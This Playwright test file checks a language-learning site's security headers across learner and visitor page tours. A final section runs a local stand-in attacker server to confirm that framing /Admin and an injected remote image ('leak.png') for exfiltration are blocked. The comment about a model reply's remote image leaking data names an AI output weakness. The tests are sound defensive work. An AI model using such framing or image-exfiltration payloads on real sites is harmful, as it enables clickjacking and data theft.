import { createServer, type Server } from 'node:http';
import type { Page, Response } from '@playwright/test';
import { expect, test } from './fixtures';
import { widths } from './support/outbox';
import { clickWord, sentence } from './support/reading-text';

/**
 * The security headers in the browser (scripts/security-headers.cjs): a tour of the product's
 * pages, doing what a learner does on each, with no Content-Security-Policy violation reported,
 * and the headers on every page; a page of another origin cannot frame /Admin nor make the
 * browser fetch an image from anywhere. The headers of every kind of answer are checked over
 * HTTP in tests/security-headers.test.ts.
 */

/**
 * Every CSP violation the page reports, as `directive blocked-URL (document)`: the
 * securitypolicyviolation events of every document and frame (an init script forwards them) and
 * the console's messages about the policy (what Chromium says when it refuses something).
 */
async function watchViolations(page: Page): Promise<string[]> {
  const seen: string[] = [];
  await page.exposeFunction('__cspViolation', (text: string) => seen.push(text));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const report = (window as unknown as { __cspViolation?: (text: string) => void }).__cspViolation;
      report?.(
        `${event.effectiveDirective} ${event.blockedURI} (${event.documentURI}; ${event.sourceFile}:${event.lineNumber}:${event.columnNumber})`,
      );
    });
  });
  page.on('console', (message) => {
    if (/Content[ -]Security[ -]Policy/i.test(message.text())) seen.push(`console: ${message.text()}`);
  });
  return seen;
}

/** The headers every page carries (no HSTS: the test server is plain http with no proxy in front). */
function expectPageHeaders(answer: Pick<Response, 'headers'> | null, what: string) {
  expect(answer, what).not.toBeNull();
  const headers = answer!.headers();
  const policy = headers['content-security-policy'] ?? '';
  expect(policy, what).toContain("frame-ancestors 'none'");
  expect(policy, what).toContain("object-src 'none'");
  expect(policy, what).toMatch(/img-src 'self' data: blob: [^;*]*\*\.qlogo\.cn/);
  expect(headers['x-frame-options'], what).toBe('DENY');
  expect(headers['x-content-type-options'], what).toBe('nosniff');
  expect(headers['referrer-policy'], what).toBe('strict-origin-when-cross-origin');
  expect(headers['strict-transport-security'], what).toBeUndefined();
}

/** Goes to a page and checks its headers. */
async function visit(page: Page, path: string) {
  const answer = await page.goto(path);
  expectPageHeaders(answer, path);
  return answer!;
}

/** A server of another origin (another port of this machine): the attacker's pages. */
async function otherSite(pages: Record<string, string>): Promise<{ url: string; asked: string[]; close(): Promise<void> }> {
  const asked: string[] = [];
  const server: Server = createServer((req, res) => {
    asked.push(req.url ?? '');
    const body = pages[(req.url ?? '').split('?')[0]];
    if (body === undefined) {
      res.writeHead(404).end();
      return;
    }
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as { port: number };
  return {
    url: `http://127.0.0.1:${port}`,
    asked,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

test.describe('the pages pass their Content-Security-Policy', () => {
  // A long tour: several screens, each used as a learner uses it.
  test.describe.configure({ timeout: 180_000 });
  test.use({ viewport: widths.desktop });

  test('a learner’s tour: portal, reading, dictionary, analysis and tutor, writer, upload, personal centre, membership', async ({
    page,
    learner,
    dict,
    panel,
    analysis,
    membership,
    writer,
  }) => {
    void learner;
    const violations = await watchViolations(page);

    // The portal; vConsole (the test environment's debug console) loads on every page here.
    await visit(page, '/');
    await expect(page.locator('#__vconsole')).toBeAttached({ timeout: 15_000 });

    // A reading page, served whole from the cache: a word in it, and its sound.
    await visit(page, '/Article/carroll-alice');
    await expect(page.getByTestId('article-reader')).toHaveAttribute('data-ready', 'true');
    await clickWord(page, sentence(page, 'Alice was beginning to get very tired'), 'tired');
    await panel.expectLoaded('tired');
    const audio = page.waitForResponse((r) => r.url().includes('/api/get_text_audio'));
    await panel.phoneticUs().getByTestId('play-button').click();
    expect((await audio).status()).toBe(200);
    await panel.close().click();

    // The contextual dictionary: a text read, a word clicked.
    await visit(page, '/ContextualDict');
    await expect(dict.screen()).toHaveAttribute('data-ready', 'true');
    await dict.read('We sat on the bank of the river and watched the boats go by.');
    await dict.word('bank').click();
    await panel.expectLoaded('bank');
    await panel.posButton().click();
    await expect(page.getByText('暂时无法获取词性说明')).toHaveCount(0);
    await page.keyboard.press('Escape');

    // Sentence analysis, a grammar point's explanation and the tutor's streamed answer.
    await visit(page, '/chatSentence');
    await analysis.analyse('The book that you lent me was so interesting that I finished it in one night.');
    await analysis.segment('主语').first().getByTestId('segment-word').first().click();
    await expect(analysis.suggestedQuestions().first()).toBeVisible({ timeout: 15_000 });
    await analysis.suggestedQuestions().first().click();
    await analysis.lastReply();

    // The writer checks a text.
    await writer.open();
    expectPageHeaders(await page.request.get('/writer'), '/writer');
    await writer.write('I has a car. She go to school every day.');
    await writer.check();
    await expect(writer.marks().first()).toBeVisible();

    // A book uploaded, then read.
    await visit(page, '/uploadBook');
    await page.getByTestId('upload-file').setInputFiles({
      name: 'harbour.txt',
      mimeType: 'text/plain',
      buffer: Buffer.from('Chapter 1\n\nFishermen mended their nets on the quiet harbour wall. Gulls circled above the boats.\n'),
    });
    await page.getByTestId('upload-submit').click();
    // The book worker loads at a lower priority than the service (book-maker.ts): slow on a busy machine.
    await expect(page.getByTestId('upload-done')).toBeVisible({ timeout: 60_000 });
    await page.getByTestId('upload-book-link').click();
    await expect(page.getByTestId('article-reader')).toHaveAttribute('data-ready', 'true');

    // The personal centre, then membership: the order dialog draws its pay QR code (a data: URL).
    await visit(page, '/Admin');
    await expect(page.getByTestId('admin-nickname')).toBeVisible();
    await visit(page, '/BuyVip');
    await membership.openFromHeader();
    await membership.buy('month');
    const payPage = await membership.payPageUrl();
    await expect(membership.orderDialog().getByTestId('order-qr')).toHaveAttribute('src', /^data:image\/png;base64,/);
    // The sandbox's pay page, as the phone that scans the code opens it, and its form.
    await visit(page, payPage);
    await page.getByTestId('sandbox-pay').click();
    await expect(page.getByTestId('sandbox-result')).toContainText('支付成功');

    expect(violations).toEqual([]);
  });

  test('a visitor’s tour: assessment, grammar, course books, free trial, footer image, a 404, WeChat login', async ({
    page,
    shell,
    loginPage,
  }) => {
    const violations = await watchViolations(page);

    await visit(page, '/assessment');
    await page.getByTestId('assessment-start').click();
    await expect(page.getByTestId('assessment-start')).toHaveCount(0);

    await visit(page, '/Grammar');
    await visit(page, '/aiBook/word/detail?category=cet4');
    await visit(page, '/UseForFree');
    await visit(page, '/ReadNewsList');

    // The footer's contact image (SITE_CONTACT_IMAGE_URL, a file of the site in the e2e server).
    await visit(page, '/AboutUs');
    await page.getByRole('button', { name: '联系我们' }).click();
    await expect(page.getByRole('img', { name: '联系我们二维码' })).toBeVisible();

    await visit(page, '/Login');
    const missing = await page.goto('/definitely/not/here');
    expect(missing?.status()).toBe(404);
    expectPageHeaders(missing, '404');
    await expect(page.getByRole('heading').first()).toBeVisible();

    // WeChat login through its sandbox: the redirect to the authorise page, its form, and back.
    await visit(page, '/');
    await shell.loginButton().click();
    await loginPage.wechat().click();
    await expect(page).toHaveURL(/\/sandbox\/wechat\/authorize\?/);
    await page.getByTestId('wechat-sandbox-nickname').fill('扫码同学');
    await page.getByTestId('wechat-sandbox-agree').click();
    await shell.expectLoggedInAs('扫码同学');

    expect(violations).toEqual([]);
  });

  test.describe('inside WeChat', () => {
    test.use({
      viewport: widths.phone,
      userAgent:
        'Mozilla/5.0 (Linux; Android 13; Pixel 7 Build/TQ3A.230901.001; wv) AppleWebKit/537.36 (KHTML, like Gecko) ' +
        'Version/4.0 Chrome/116.0.0.0 Mobile Safari/537.36 XWEB/1160065 MMWEBSDK/20231202 MicroMessenger/8.0.47.2560(0x28002F35) ' +
        'WeChat/arm64 Weixin NetType/WIFI Language/zh_CN ABI/arm64',
    });

    test('WeChat’s JS-SDK loads from its server and may report its start-up there', async ({ page, learner }) => {
      void learner;
      const violations = await watchViolations(page);
      // A stand-in for jweixin at WeChat's address that does what the real one does at start:
      // defines wx and reports to open.weixin.qq.com with an image.
      let reported = false;
      await page.route('https://res.wx.qq.com/open/js/jweixin-1.6.0.js', (route) =>
        route.fulfill({
          contentType: 'application/javascript; charset=utf-8',
          body: `window.wx = { config() { new Image().src = 'https://open.weixin.qq.com/sdk/report?v=1'; },
            ready(f) { f(); }, error() {}, updateAppMessageShareData() {}, updateTimelineShareData() {} };`,
        }),
      );
      await page.route('https://open.weixin.qq.com/sdk/report**', (route) => {
        reported = true;
        return route.fulfill({ contentType: 'image/gif', body: Buffer.from('R0lGODlhAQABAAAAACw=', 'base64') });
      });
      await visit(page, '/AboutUs');
      await expect.poll(() => reported, { timeout: 15_000 }).toBe(true);
      expect(violations).toEqual([]);
    });
  });
});

test.describe('what another site cannot do', () => {
  test.use({ viewport: widths.desktop });

  test('a page of another origin cannot show /Admin in a frame, though the learner is logged in', async ({
    page,
    learner,
    baseURL,
  }) => {
    void learner;
    // The learner's own /Admin shows the account.
    await visit(page, '/Admin');
    await expect(page.getByTestId('admin-nickname')).toBeVisible();

    // Another port of the same host: same site, so the learner's cookies go along with the frame.
    const attacker = await otherSite({
      '/': `<!doctype html><title>win a prize</title><iframe id="victim" src="${baseURL}/Admin" width="800" height="600"></iframe>`,
    });
    try {
      const refused = page.waitForEvent('console', (m) => /frame-ancestors/.test(m.text()));
      const framed = page.waitForResponse((r) => r.url() === `${baseURL}/Admin`);
      await page.goto(attacker.url);
      // The site answered the frame's request (with the learner's cookies)…
      expect((await framed).headers()['content-security-policy']).toContain("frame-ancestors 'none'");
      // …and Chromium refused to show the answer: it says so, and the frame holds nothing of it.
      expect((await refused).text()).toContain("frame-ancestors 'none'");
      const frame = page.frames().find((f) => f !== page.mainFrame());
      expect(frame).toBeDefined();
      await expect.poll(() => frame!.url()).not.toBe(`${baseURL}/Admin`);
      await expect(frame!.getByTestId('admin-nickname')).toHaveCount(0);
      await expect(frame!.locator('body')).not.toContainText(learner.email.split('@')[0]);
    } finally {
      await attacker.close();
    }
  });

  test('an image of another host in a page is refused before anything is fetched', async ({ page }) => {
    const attacker = await otherSite({ '/leak.png': '' });
    const violations = await watchViolations(page);
    try {
      await visit(page, '/chatSentence');
      // What a model reply's remote image did before: the page's markup names another host.
      await page.evaluate((src) => {
        const img = document.createElement('img');
        img.src = src;
        document.body.append(img);
      }, `${attacker.url}/leak.png?what=the-page`);
      await expect.poll(() => violations.length).toBeGreaterThan(0);
      expect(violations.join('\n')).toContain('img-src');
      expect(attacker.asked).toEqual([]);
    } finally {
      await attacker.close();
    }
  });
});
